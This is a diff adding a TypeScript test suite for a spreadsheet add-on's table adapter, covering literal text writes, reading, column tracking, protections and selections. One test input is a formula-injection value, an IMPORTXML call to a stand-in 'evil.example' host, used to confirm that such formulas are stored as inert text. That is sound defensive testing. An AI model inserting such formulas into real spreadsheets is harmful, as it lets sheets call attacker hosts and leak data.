@@ -1,0 +1,237 @@
+import { ServiceException } from '../../sandbox/apps-script/errors';
+import type { Host, HostOptions } from '../../sandbox/apps-script/host';
+import { adapterHost, bundleOf, call, EDITOR, OWNER } from './adapter-host';
+
+const code = bundleOf(`
+  import { tableOf } from './table';
+  const table = () => tableOf(SpreadsheetApp.getActiveSpreadsheet().getSheets()[0]);
+  const named = (work) => {
+    try { return work() ?? null; } catch (error) { return error.name + ': ' + error.message; }
+  };
+  export function write(blocks) { return named(() => table().write(blocks)); }
+  export function writeAndRead(blocks) {
+    return named(() => { const sheet = table(); sheet.write(blocks); return sheet.read(1, 1, 0, 1).length; });
+  }
+  export function read(...area) { return JSON.stringify(table().read(...area)); }
+  export function formulas(...area) { return JSON.stringify(table().formulas(...area)); }
+  export function links(...area) { return JSON.stringify(table().links(...area)); }
+  export function outputs() { return JSON.stringify(table().outputColumns()); }
+  export function add(columns, before) { return named(() => table().addOutputColumns(columns, before)); }
+  export function fill(rows, column, text) { return named(() => table().fill(rows, column, text)); }
+  export function hidden(rows) { return JSON.stringify(table().hiddenRows(rows)); }
+  export function selected() { return JSON.stringify(table().selectedRows()); }
+  export function locked(columns) { return JSON.stringify(table().protectedColumns(columns)); }
+  export function grow(row) { return named(() => table().ensureRows(row)); }
+  export function facts() { const { sheetId, name } = table(); return JSON.stringify([sheetId, name, table().lastRow()]); }
+`);
+
+function setUp(rows: readonly (readonly string[])[] = [], options: Partial<HostOptions> = {}) {
+  const host = adapterHost(code, options);
+  const sheet = host.spreadsheet.firstSheet;
+  if (rows.length > 0) sheet.paste(1, 1, rows);
+  return { host, sheet };
+}
+
+const block = (text: string, firstRow = 2, firstColumn = 0) => [
+  { firstRow, firstColumn, values: [[text]] },
+];
+const email = { name: 'email', header: 'CDX email' };
+const phone = { name: 'phone', header: 'CDX phone' };
+
+describe('text stays text', () => {
+  test.each([
+    '+14155550100',
+    '+1 (415) 555-0100',
+    '=1+1',
+    '=IMPORTXML("https://evil.example","//a")',
+    '007',
+    '1/2',
+    '10%',
+    'TRUE',
+    '1e3',
+    '2026-01-15',
+    '-5',
+    '@ada',
+  ])('%j', (text) => {
+    const { host, sheet } = setUp([['Name']]);
+    call(host, 'write', [block(text)]);
+    expect(sheet.value(2, 1)).toBe(text);
+    expect(sheet.formula(2, 1)).toBe('');
+    expect(call(host, 'read', [2, 1, 0, 1])).toEqual([[text]]);
+  });
+
+  test('filled cells stay text too', () => {
+    const { host, sheet } = setUp([['Name']]);
+    call(host, 'fill', [[2, 3, 5], 0, '=1+1']);
+    expect([2, 3, 4, 5].map((row) => sheet.value(row, 1))).toEqual(['=1+1', '=1+1', null, '=1+1']);
+  });
+
+  test('what was written reads the same and can be written again', () => {
+    const { host } = setUp([['Name']]);
+    call(host, 'write', [block('007')]);
+    const [[text]] = call(host, 'read', [2, 1, 0, 1]);
+    call(host, 'write', [block(text)]);
+    expect(call(host, 'read', [2, 1, 0, 1])).toEqual([['007']]);
+  });
+});
+
+describe('reading', () => {
+  test('numbers and dates come as they are displayed', () => {
+    const { host } = setUp([['Name'], ['12.50'], ['1/2/2026'], ['10%']]);
+    expect(call(host, 'read', [2, 3, 0, 1])).toEqual([['12.5'], ['1/2/2026'], ['10%']]);
+  });
+
+  test('rows and columns beyond the grid are empty', () => {
+    const { host, sheet } = setUp([['Name'], ['Ada']]);
+    sheet.deleteRows(3, sheet.maxRows - 2);
+    expect(call(host, 'read', [2, 3, 0, 2])).toEqual([
+      ['Ada', ''],
+      ['', ''],
+      ['', ''],
+    ]);
+    expect(call(host, 'read', [50, 1, 0, 1])).toEqual([['']]);
+    expect(call(host, 'formulas', [2, 1, sheet.maxColumns - 1, 2])).toEqual([['', '']]);
+    expect(call(host, 'read', [2, 0, 0, 1])).toEqual([]);
+  });
+
+  test('links are found in link text and in HYPERLINK formulas', () => {
+    const { host, sheet } = setUp([['Profile'], ['']]);
+    sheet.setCell(2, 1, '=HYPERLINK("https://www.linkedin.com/in/ada", "Ada")');
+    expect(call(host, 'links', [2, 2, 0])).toEqual(['https://www.linkedin.com/in/ada', '']);
+    expect(call(host, 'links', [9_999, 2, 0])).toEqual([]);
+  });
+
+  test('it knows its sheet and the last row in use', () => {
+    const { host, sheet } = setUp([['Name'], ['Ada']]);
+    expect(call(host, 'facts')).toEqual([sheet.id, sheet.name, 2]);
+  });
+});
+
+describe('columns of the add-on', () => {
+  test('are made after the last column, and found again', () => {
+    const { host, sheet } = setUp([['Name', 'Company']]);
+    call(host, 'add', [[email, phone], null]);
+    expect(call(host, 'outputs')).toEqual({ email: 2, phone: 3 });
+    expect([sheet.value(1, 3), sheet.value(1, 4)]).toEqual(['CDX email', 'CDX phone']);
+  });
+
+  test('are made before a column that was chosen', () => {
+    const { host, sheet } = setUp([['Name', 'Company']]);
+    call(host, 'add', [[email], 1]);
+    expect(call(host, 'outputs')).toEqual({ email: 1 });
+    expect(sheet.value(1, 3)).toBe('Company');
+  });
+
+  test('are made although the grid has no column left', () => {
+    const { host, sheet } = setUp([['Name']]);
+    sheet.deleteColumns(2, sheet.maxColumns - 1);
+    call(host, 'add', [[email], null]);
+    expect(call(host, 'outputs')).toEqual({ email: 1 });
+  });
+
+  test('are followed when they are moved, renamed, or others are inserted', () => {
+    const { host, sheet } = setUp([['Name', 'Company']]);
+    call(host, 'add', [[email, phone], null]);
+    sheet.setCell(1, 3, 'Mail');
+    sheet.moveColumns(3, 1, 1);
+    expect(call(host, 'outputs')).toEqual({ email: 0, phone: 3 });
+    sheet.insertColumns(1, 2);
+    expect(call(host, 'outputs')).toEqual({ email: 2, phone: 5 });
+  });
+
+  test('that are deleted are gone', () => {
+    const { host, sheet } = setUp([['Name']]);
+    call(host, 'add', [[email, phone], null]);
+    sheet.deleteColumns(2);
+    expect(call(host, 'outputs')).toEqual({ phone: 1 });
+  });
+
+  test('are adopted by their header in a sheet that came without metadata', () => {
+    const { host, sheet } = setUp([
+      ['Name', 'CDX email'],
+      ['Ada', 'ada@acme.example'],
+    ]);
+    call(host, 'add', [[email, phone], null]);
+    expect(call(host, 'outputs')).toEqual({ email: 1, phone: 2 });
+    expect(sheet.value(2, 2)).toBe('ada@acme.example');
+  });
+
+  test('of a preset are never adopted: the header is the user\u2019s own', () => {
+    const { host } = setUp([['Name', 'Email']]);
+    call(host, 'add', [[{ name: 'email', header: 'Email' }], null]);
+    expect(call(host, 'outputs')).toEqual({ email: 2 });
+  });
+
+  test('take what people type into them as text', () => {
+    const { host, sheet } = setUp([['Name']]);
+    call(host, 'add', [[phone], null]);
+    sheet.setCell(2, 2, '0041');
+    expect(sheet.value(2, 2)).toBe('0041');
+  });
+});
+
+describe.each(['en', 'es'] as const)('protected cells in %s', (locale) => {
+  function protectedHost(options: Partial<HostOptions> = {}): Host {
+    const { host, sheet } = setUp([['Name', 'Mine']], { locale, ...options });
+    host.spreadsheet.protections.add(sheet.id, sheet.area('B:B'), []);
+    return host;
+  }
+  const refusal = 'SheetRefused: Cells of the add-on\u2019s columns are protected from you.';
+
+  test('refuse a write by a name of our own', () => {
+    const host = protectedHost();
+    expect(call(host, 'write', [block('x', 2, 1)], EDITOR)).toBe(refusal);
+    expect(call(host, 'fill', [[2], 1, 'x'], EDITOR)).toBe(refusal);
+    expect(call(host, 'write', [block('x', 2, 1)], OWNER)).toBeNull();
+  });
+
+  test('refuse it also where Sheets tells only at the next read', () => {
+    const host = protectedHost({ protectionErrors: 'deferred' });
+    expect(call(host, 'writeAndRead', [block('x', 2, 1)], EDITOR)).toBe(refusal);
+  });
+
+  test('are known before a run', () => {
+    const host = protectedHost();
+    expect(call(host, 'locked', [[0, 1, 2]], EDITOR)).toEqual([1]);
+    expect(call(host, 'locked', [[0, 1, 2]], OWNER)).toEqual([]);
+  });
+});
+
+test('a refusal in a language that nobody foresaw is found out by asking for the protections', () => {
+  const hooks = {
+    before: ({ method }: { method: string }) => {
+      if (method === 'setValues') throw new ServiceException('\u4fdd\u8b77');
+    },
+  };
+  const { host, sheet } = setUp([['Name']], { hooks });
+  expect(call(host, 'write', [block('x')], EDITOR)).toBe('Exception: \u4fdd\u8b77');
+  host.spreadsheet.protections.add(sheet.id, sheet.area('A:A'), []);
+  expect(call(host, 'write', [block('x')], EDITOR)).toMatch(/^SheetRefused/);
+});
+
+test('a protected sheet protects all of its columns', () => {
+  const { host, sheet } = setUp([['Name']]);
+  host.spreadsheet.protections.add(sheet.id, null, []);
+  expect(call(host, 'locked', [[0, 3]], EDITOR)).toEqual([0, 3]);
+});
+
+test('too many cells are refused by a name of our own', () => {
+  const { host } = setUp([['Name']]);
+  expect(call(host, 'grow', [500_000])).toBe(
+    'SheetRefused: The spreadsheet would exceed ten million cells.',
+  );
+});
+
+test('rows hidden by a filter or by hand are known', () => {
+  const { host, sheet } = setUp([['Name'], ['Ada'], ['Ben'], ['Cem']]);
+  sheet.hideRows(2);
+  sheet.setFilter(sheet.area('A1:A4'));
+  sheet.filterColumn(1, (text) => text !== 'Cem');
+  expect(call(host, 'hidden', [[2, 3, 4]])).toEqual([2, 4]);
+});
+
+test('all selected ranges count, each row once', () => {
+  const { host, sheet } = setUp([['Name'], ['a'], ['b'], ['c'], ['d']]);
+  host.spreadsheet.select(OWNER, sheet, 'A2:B3', 'A3', 'A5:A900');
+  expect(call(host, 'selected')).toEqual([2, 3, 5]);
+});
